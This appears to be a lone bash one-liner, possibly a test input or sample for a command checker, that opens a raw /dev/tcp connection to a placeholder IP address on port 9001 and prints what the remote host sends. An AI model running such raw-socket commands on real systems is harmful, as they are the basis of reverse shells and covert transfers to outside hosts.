bash -c 'exec 5<>/dev/tcp/203.0.113.5/9001; cat <&5; true'
